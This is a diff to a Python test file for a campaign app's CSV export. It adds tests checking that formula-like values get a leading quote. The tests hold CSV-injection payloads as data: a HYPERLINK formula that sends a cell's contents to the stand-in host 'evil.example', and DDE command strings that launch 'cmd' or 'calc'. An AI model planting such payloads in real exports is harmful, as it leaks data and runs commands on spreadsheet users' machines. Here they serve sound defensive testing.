@@ -263,6 +263,22 @@ class ReportStoreTests(DatabaseTestCase):
         self.assertNumbers(stored.report, "live")
 
     @defer.inlineCallbacks
+    def test_fixture_settings_readable(self):
+        """
+        The fixture's campaign reads back through the campaign store (its
+        settings are what the wizard saves: option 9 opts out).
+        """
+        from twisted.internet.task import Clock
+
+        from fts.core.campaign import Action
+        from fts.db.campaigns import CampaignStore
+
+        campaign = yield CampaignStore(self.pool, Clock()).get(self.campaign)
+        self.assertEqual(campaign.name, "Payment reminders")
+        self.assertEqual([(o.key, o.action) for o in campaign.settings.menu.options],
+                         [("1", Action.RECORD), ("2", Action.DIAL), ("9", Action.OPTOUT)])
+
+    @defer.inlineCallbacks
     def test_csv_file_recorded(self):
         """set_csv_file records the CSV written for a snapshot."""
         yield self.finalize()
@@ -369,8 +385,52 @@ class CsvExportTests(DatabaseTestCase):
         data = yield self.export(page_size=5)
         rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
         self.assertEqual(len(rows), 13)
+        # '=1+2' starts a formula: written with a quote before it (see
+        # fts.reports.export); every other value comes back as stored.
+
+        def shown(text):
+            return "'" + text if text.startswith("=") else text
+
         self.assertEqual([(row[1], row[4]) for row in rows[1:]],
-                         [(value + c[1], value) for c, value in zip(fixture.CONTACTS, values)])
+                         [(shown(value + c[1]), shown(value))
+                          for c, value in zip(fixture.CONTACTS, values)])
+
+    @defer.inlineCallbacks
+    def test_formulas_neutralised(self):
+        """
+        List values and a DNC list name that a spreadsheet would run as a
+        formula get a single quote before them, in the live and the final
+        CSV alike; phone numbers with a leading + and negative numbers are
+        left alone.
+        """
+        payload = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+        changes = [("33600000001", payload, "+33 6 00 00 00 01"),
+                   ("33600000002", "@SUM(1+1)*cmd|' /C calc'!A0", "-1"),
+                   ("33600000003", "-2+3", "+33 (6) 00.00-00-03"),
+                   ("33600000004", "\tTAB", "+1+cmd|x")]
+        for phone, note, uploaded in changes:
+            yield self.pool.runOperation(
+                "UPDATE contacts SET fields = jsonb_set(fields, '{note}', to_jsonb(%s::text)),"
+                " phone_original = %s WHERE phone = %s", (note, uploaded, phone))
+        yield self.pool.runOperation("UPDATE dnc_lists SET name = '+cmd' WHERE builtin")
+        live = yield self.export(page_size=5)
+        lines = live.decode("utf-8").split("\r\n")
+        self.assertEqual(
+            lines[1],
+            '"Alice","+33 6 00 00 00 01","12.5","2026-02-01",'
+            '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",33600000001,reached,1,1,1,'
+            'human,42,yes,2026-01-12 09:05:01,""')
+        rows = list(csv.reader(io.StringIO(live.decode("utf-8"), newline="")))
+        self.assertEqual([(row[1], row[4]) for row in rows[1:5]],
+                         [("+33 6 00 00 00 01", "'" + payload),
+                          ("-1", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+                          ("+33 (6) 00.00-00-03", "'-2+3"),
+                          ("'+1+cmd|x", "'\tTAB")])
+        self.assertEqual(rows[8][-1], "'+cmd")  # Hugo, skipped on the opt-outs list
+        yield self.pool.runOperation(fixture.archive_sql())
+        yield self.reports.build_final(self.campaign)
+        final = yield self.export(page_size=5)
+        self.assertEqual(final, live)
 
     @defer.inlineCallbacks
     def test_too_large(self):
